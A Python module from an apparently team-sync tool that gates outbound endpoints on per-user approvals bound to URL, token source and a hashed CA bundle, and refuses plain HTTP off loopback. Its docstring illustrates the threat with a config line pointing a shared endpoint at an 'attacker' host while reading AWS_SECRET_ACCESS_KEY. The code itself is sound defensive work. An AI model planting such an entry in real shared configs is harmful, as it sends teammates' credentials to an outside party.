"""Which endpoints this machine may send to: trust comes from the person, never from the shared folder.

huddle.toml sits in a folder any teammate can edit. Were its word enough, a
teammate could add ``url = "http://attacker"`` with ``token_env =
"AWS_SECRET_ACCESS_KEY"`` and every teammate's next sync would hand that
secret over. So an endpoint is used only once this person has approved it on
this machine (``huddle trust``, kept in their own config.toml), and the
approval is bound to the URL, the format, the token source and the CA bundle:
a change to any of them in huddle.toml withdraws it until it is given again.

The CA bundle usually sits in the shared folder too, so its path is not
enough: whoever rewrites that file decides which server gets the token. The
approval also keeps the SHA-256 of the bundle's bytes; each check reads the
file once, compares its hash, and hands those very bytes on (``Verdict.ca_pem``)
for the client to build its TLS context from, so nothing swapped in after the
check is ever used. A bundle that changed, cannot be read, or was approved by
an older huddle that kept no hash, withdraws the approval, and the reason says
which.

Plain ``http://`` carries the token and the check-ins readable by anyone on
the way, so it is refused for any host but loopback (127.0.0.0/8, ::1,
localhost) unless the person allows that host (``huddle trust --allow-http``).
"""

from __future__ import annotations

import hashlib
from collections.abc import Iterable
from pathlib import Path
from typing import NamedTuple

from huddle_tui.config.team import Endpoint
from huddle_tui.config.user import Approval, UserConfig
from huddle_tui.errors import ConfigError
from huddle_tui.sync.credentials import endpoint_label, redact_url

NOT_APPROVED = "not approved on this machine"
CA_CHANGED = "the CA bundle's contents changed since you approved it"
CA_NOT_HASHED = ("approved by an older huddle that did not record the CA bundle's contents, "
                 "so it needs approving again")
CA_BUNDLE_MAX = 4 * 1024 * 1024  # a system bundle with every public CA is about 220 KB


class CABundle(NamedTuple):
    """A CA bundle's bytes as read once, and their SHA-256 (lower-case hex)."""

    pem: bytes
    sha256: str


class Verdict(NamedTuple):
    """Whether an endpoint is approved here, why not, and the CA bundle's bytes the check hashed.

    `reason` is None when approved or when no approval names the endpoint at
    all; `ca_pem` is set only when approved with a CA bundle: the client must
    verify TLS against these bytes, never the file read again.
    """

    approved: bool
    reason: str | None = None
    ca_pem: bytes | None = None


def read_ca_bundle(path: Path) -> CABundle:
    """Read a CA bundle once, as a regular file of bounded size, and hash what was read.

    The path comes from huddle.toml, which any teammate can edit: a FIFO
    would block an open() forever and /dev/zero would never end, so the file
    is opened without blocking, must be a regular file, and is read to a cap.
    ConfigError, naming the file and why, when it cannot be used.
    """
    from huddle_tui.storage.fileio import NotAFile, read_regular

    try:
        pem = read_regular(path.expanduser(), CA_BUNDLE_MAX)
    except NotAFile:
        raise _unreadable(path, "not a regular file") from None
    except OSError as exc:
        raise _unreadable(path, exc) from None
    size = len(pem)
    if size > CA_BUNDLE_MAX:
        raise _unreadable(path, f"larger than {CA_BUNDLE_MAX >> 20} MiB")
    return CABundle(pem, hashlib.sha256(pem).hexdigest())


def _unreadable(path: Path, why: OSError | str) -> ConfigError:
    """The error for a CA bundle that cannot be used, in words a person can act on."""
    if isinstance(why, FileNotFoundError):
        why = "not found"
    elif isinstance(why, OSError):
        why = why.strerror or type(why).__name__
    return ConfigError(f"the CA bundle {path} cannot be read ({why})")


def _resolved(path: Path | None) -> str | None:
    """A token file or CA bundle as the absolute path it names now (a swapped symlink counts as a change)."""
    if path is None:
        return None
    try:
        return str(path.expanduser().resolve())
    except (OSError, RuntimeError):  # a symlink loop: an unusable path is still a distinct one
        return str(path.expanduser().absolute())


def host_of(url: str) -> str:
    """The lower-cased host name of a URL ("" when it has none or cannot be parsed)."""
    from urllib.parse import urlsplit

    try:
        return (urlsplit(url).hostname or "").rstrip(".")
    except ValueError:
        return ""


def endpoint_name(endpoint: Endpoint) -> str:
    """How `huddle trust` names an endpoint: its `name`, else its host."""
    return endpoint.name or host_of(endpoint.url) or endpoint.url


def approval_for(endpoint: Endpoint) -> Approval:
    """The approval that would cover this endpoint as huddle.toml describes it now (no CA hash yet).

    Reading no file keeps it cheap and safe for listing and matching; only
    approving (`with_approved`) and checking (`verdict`) read the CA bundle.
    """
    return Approval(name=endpoint_name(endpoint), url=endpoint.url, format=endpoint.format,
                    token_env=endpoint.token_env, token_file=_resolved(endpoint.token_file),
                    ca_bundle=_resolved(endpoint.ca_bundle))


def bound_to(endpoint: Endpoint, approval: Approval) -> bool:
    """Whether the approval names this endpoint's URL, format, token source and CA bundle path.

    An approval bound to an endpoint may still not cover it (its CA bundle's
    contents changed): `--list` must not call it stale, `--revoke` must find it.
    """
    return approval.binding == approval_for(endpoint).binding


def verdict(endpoint: Endpoint, approvals: Iterable[Approval]) -> Verdict:
    """Whether one of this person's approvals covers the endpoint as it is now, CA bundle bytes included."""
    bound = [a for a in approvals if bound_to(endpoint, a)]
    if not bound:
        return Verdict(False)
    if endpoint.ca_bundle is None:
        return Verdict(True)
    return _ca_verdict(endpoint.ca_bundle, [a.ca_sha256 for a in bound])


def _ca_verdict(path: Path, approved: list[str | None]) -> Verdict:
    """Read the bundle once and compare its hash with the approved ones; the bytes go with a yes."""
    try:
        bundle = read_ca_bundle(path)
    except ConfigError as exc:
        return Verdict(False, exc.message)
    if bundle.sha256 in approved:
        return Verdict(True, ca_pem=bundle.pem)
    return Verdict(False, CA_NOT_HASHED if not any(approved) else CA_CHANGED)


def is_approved(endpoint: Endpoint, approvals: Iterable[Approval]) -> bool:
    """Whether an approval of this person's covers the endpoint's URL, format, token source and CA bundle."""
    return verdict(endpoint, approvals).approved


def is_loopback(host: str) -> bool:
    """127.0.0.0/8, ::1 or localhost: traffic that never leaves this machine."""
    import ipaddress

    host = host.strip("[]").rstrip(".").lower()
    if host == "localhost":
        return True
    try:
        return ipaddress.ip_address(host).is_loopback
    except ValueError:
        return False


def http_refusal(url: str, allow_http: Iterable[str]) -> str | None:
    """Why plain http:// to this URL is refused, or None when it is https, loopback or allowed."""
    if not url.lower().startswith("http://"):
        return None
    host = host_of(url)
    if host and (is_loopback(host) or host in {h.lower() for h in allow_http}):
        return None
    shown = host or "this host"
    return (f"plain http:// to {shown} is refused (the token and check-ins would cross the network "
            f"readable by anyone on the way); use https://, or if that network is trusted, run "
            f"`huddle trust --allow-http {shown}`")


def token_source(endpoint: Endpoint) -> str:
    """Where the endpoint's secret would be read from, in words."""
    what = "token" if endpoint.format == "records" else "webhook URL"
    if endpoint.token_env:
        return f"{what} from ${endpoint.token_env}"
    if endpoint.token_file is not None:
        return f"{what} from file {_resolved(endpoint.token_file)}"
    return "no token" if endpoint.format == "records" else "webhook URL as written in huddle.toml"


def describe(endpoint: Endpoint) -> str:
    """One line for a person deciding: label, URL with key-like parts hidden, format, token source, CA."""
    ca = f", CA bundle {_resolved(endpoint.ca_bundle)}" if endpoint.ca_bundle is not None else ""
    return (f"{endpoint_label(endpoint)}: {redact_url(endpoint.url)} ({endpoint.format}, "
            f"{token_source(endpoint)}{ca})")


def refusal(endpoint: Endpoint, user: UserConfig, checked: Verdict | None = None) -> str | None:
    """Why nothing may be sent to this endpoint from this machine, or None when it may be used.

    Pass the `verdict` already made when its CA bytes will be used, so the
    bundle is read once for both the decision and the connection.
    """
    checked = checked if checked is not None else verdict(endpoint, user.trusted)
    if not checked.approved:
        why = f": {checked.reason}" if checked.reason else ""
        return (f"{NOT_APPROVED}{why}; nothing sent to {redact_url(endpoint.url)} "
                f"({token_source(endpoint)}); run `huddle trust` to review it")
    return http_refusal(endpoint.url, user.allow_http)


def with_approved(user: UserConfig, endpoints: Iterable[Endpoint]) -> UserConfig:
    """The user config with approvals for these endpoints as they are now, CA bundle bytes included.

    An approval already bound to the same endpoint is replaced, so approving
    again after the CA bundle changed covers the new bytes only. ConfigError,
    with nothing approved, when a CA bundle cannot be read: its contents are
    what is being approved.
    """
    trusted = list(user.trusted)
    for endpoint in endpoints:
        approval = approval_for(endpoint)
        if endpoint.ca_bundle is not None:
            try:
                approval = approval._replace(ca_sha256=read_ca_bundle(endpoint.ca_bundle).sha256)
            except ConfigError as exc:
                raise ConfigError(f"{endpoint_label(endpoint)}: {exc.message}; nothing approved") from None
        trusted = [a for a in trusted if a.binding != approval.binding] + [approval]
    return user._replace(trusted=tuple(trusted))


def matches(endpoint: Endpoint, name: str) -> bool:
    """Whether NAME on the command line means this endpoint: its name, host, label or outbox key."""
    from huddle_tui.sync.outbox import endpoint_key

    return name in {endpoint_name(endpoint), host_of(endpoint.url), endpoint_label(endpoint),
                    endpoint_key(endpoint)}


def trusted_endpoint(user: UserConfig, name: str) -> tuple[Endpoint, bytes | None]:
    """The records endpoint NAME among this person's own approvals, and its CA bundle's bytes as checked.

    An org champion may have no team: the approval says the URL and token
    source in full, so it is the endpoint. Its CA bundle may still sit in a
    folder others write, so the bytes must match the approval's `ca_sha256`
    and are returned for the client to use. ConfigError when no approval has
    that name or host, or its CA bundle is not the one approved.
    """
    found = [a for a in user.trusted if a.format == "records" and name in (a.name, host_of(a.url))]
    if not found:
        known = ", ".join(sorted({a.name for a in user.trusted if a.format == "records"})) or "none"
        raise ConfigError(f"no records endpoint named {name!r} in {user.path} [[trusted_endpoints]] "
                          f"(known: {known}); `huddle trust` approves your team's endpoints")
    a = found[0]
    endpoint = Endpoint(url=a.url, format=a.format, token_env=a.token_env, name=a.name,
                        token_file=Path(a.token_file) if a.token_file else None,
                        ca_bundle=Path(a.ca_bundle) if a.ca_bundle else None)
    if endpoint.ca_bundle is None:
        return endpoint, None
    checked = _ca_verdict(endpoint.ca_bundle, [a.ca_sha256])
    if not checked.approved:
        raise ConfigError(f"{user.path}: trusted_endpoints {a.name}: {checked.reason}; nothing sent "
                          "(run `huddle trust` again, or set ca_sha256 to the SHA-256 of the bundle "
                          "you trust)")
    return endpoint, checked.ca_pem
